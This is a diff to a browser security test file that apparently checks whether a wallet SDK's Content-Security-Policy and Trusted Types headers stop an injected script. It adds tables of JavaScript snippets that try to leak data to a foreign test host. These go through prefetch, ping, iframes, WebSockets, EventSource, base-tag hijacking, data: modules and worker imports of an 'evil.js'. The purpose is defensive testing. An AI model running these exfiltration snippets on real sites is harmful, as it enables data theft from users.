@@ -21,6 +21,26 @@ const attacks = {
   'form elsewhere': `const form = document.createElement('form'); const frame = document.createElement('iframe'); frame.name = 'out'; document.body.append(frame); form.target = 'out'; form.action = FOREIGN + '/leak?form'; document.body.append(form); form.submit(); return undefined`,
   'socket elsewhere': `return new Promise((resolve) => { const socket = new WebSocket(FOREIGN.replace('http', 'ws') + '/leak'); socket.onopen = () => resolve(true); socket.onerror = () => resolve(undefined) })`,
   'style elsewhere': `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = FOREIGN + '/leak?style'; const done = new Promise((resolve) => { link.onload = () => resolve(true); link.onerror = () => resolve(false) }); document.head.append(link); return done`,
+  'prefetch elsewhere': `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: FOREIGN + '/leak?prefetch' })); return undefined`,
+  'ping of a link elsewhere': `const link = Object.assign(document.createElement('a'), { href: '#', ping: FOREIGN + '/leak?ping' }); document.body.append(link); link.click(); return undefined`,
+  'stream of events elsewhere': `new EventSource(FOREIGN + '/leak?events'); return undefined`,
+  'frame elsewhere': `document.body.append(Object.assign(document.createElement('iframe'), { src: FOREIGN + '/leak?frame' })); return undefined`,
+  'object elsewhere': `document.body.append(Object.assign(document.createElement('object'), { data: FOREIGN + '/leak?object' })); return undefined`,
+  'video elsewhere': `document.body.append(Object.assign(document.createElement('video'), { src: FOREIGN + '/leak?video', preload: 'auto' })); return undefined`,
+  'own paths led elsewhere': `const base = Object.assign(document.createElement('base'), { href: FOREIGN + '/leak?base' }); document.head.append(base); const led = document.baseURI.startsWith(FOREIGN); base.remove(); return led`,
+  'address of a script': `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location.href = 'javascript:parent.led = 1'; await new Promise((resolve) => setTimeout(resolve, 50)); return window.led === 1`,
+  'module of a text': `return (await import('data:text/javascript,export const ran = true')).ran`,
+  'text in a timer': `setTimeout('window.late = 1'); await new Promise((resolve) => setTimeout(resolve, 50)); return window.late === 1`,
+} as const
+
+/** What the keys’ worker would do that got another script in: its policy comes with its own file. */
+const workerAttacks = {
+  'a worker’s fetch elsewhere': `return (await fetch(FOREIGN + '/leak?worker', { mode: 'no-cors' })).type === 'opaque'`,
+  'a worker’s socket elsewhere': `return new Promise((resolve) => { const socket = new WebSocket(FOREIGN.replace('http', 'ws') + '/leak'); socket.onopen = () => resolve(true); socket.onerror = () => resolve(undefined) })`,
+  'a worker’s stream of events elsewhere': `new EventSource(FOREIGN + '/leak?events'); return undefined`,
+  'a worker’s eval': `return (0, eval)('1 + 1') === 2`,
+  'a worker’s module of another origin': `await import(FOREIGN + '/evil.js'); return true`,
+  'a worker’s module of a text': `return (await import('data:text/javascript,export const ran = true')).ran`,
 } as const
 
 let browser: Browser
@@ -44,8 +64,10 @@ beforeAll(async () => {
     const type = pathname.endsWith('.svg') ? 'image/svg+xml' : pathname.endsWith('.js') ? 'text/javascript' : 'text/css'
     return new Response(pathname.endsWith('.svg') ? '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>' : '', { headers: { 'content-type': type, 'cross-origin-resource-policy': 'cross-origin' } })
   }, 'foreign')
-  const table = Object.entries(attacks).map(([name, body]) => `${JSON.stringify(name)}: async (FOREIGN) => { ${body} }`)
-  const site = siteOf(`window.attacks = { ${table.join(', ')} }; window.ready = import('/a/lazy.js').then(({ loaded }) => loaded)`, { '/a/lazy.js': 'export const loaded = true', '/a/other.js': 'self.other = 1' })
+  const tableOf = (all: Readonly<Record<string, string>>) => Object.entries(all).map(([name, body]) => `${JSON.stringify(name)}: async (FOREIGN) => { ${body} }`).join(', ')
+  const work = `const attacks = { ${tableOf(workerAttacks)} }; onmessage = ({ data: [name, foreign] }) => attacks[name](foreign).then(postMessage, (error) => postMessage(String(error)))`
+  const inWorker = Object.keys(workerAttacks).map((name) => `${JSON.stringify(name)}: (FOREIGN) => new Promise((resolve) => { const worker = new Worker(address, { type: 'module' }); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => resolve('no worker'); worker.postMessage([${JSON.stringify(name)}, FOREIGN]) })`).join(', ')
+  const site = siteOf(`const address = trustedTypes.createPolicy('tessera', { createScriptURL: (path) => path }).createScriptURL('/a/work.js'); window.attacks = { ${tableOf(attacks)}, ${inWorker} }; window.ready = import('/a/lazy.js').then(({ loaded }) => loaded)`, { '/a/lazy.js': 'export const loaded = true', '/a/other.js': 'self.other = 1', '/a/work.js': work })
   shop = await listen(hostOf(() => `${wallet.origin}/sdk?projectId=shop`), 'shop')
   stranger = await listen(hostOf(() => `${wallet.origin}/sdk?projectId=shop`), 'stranger')
   const apps = [appOf({ origins: [shop.origin] })]
@@ -115,8 +137,10 @@ describe('a script that got in', () => {
     return { worked: outcome === true, leaked: [...leaked], outcome }
   }
 
-  test.each(Object.keys(attacks))('%s is refused; control: without the headers it works', async (name) => {
-    expect(await attempt(wallet.origin, name)).toMatchObject({ worked: false, leaked: [] })
+  test.each(Object.keys({ ...attacks, ...workerAttacks }))('%s is refused; control: without the headers it works', async (name) => {
+    const refused = await attempt(wallet.origin, name)
+    expect(refused).toMatchObject({ worked: false, leaked: [] })
+    expect(refused.outcome).not.toBe('no worker')
     const control = await attempt(weak.origin, name)
     expect(control.worked || control.leaked.length > 0, JSON.stringify(control)).toBe(true)
   })
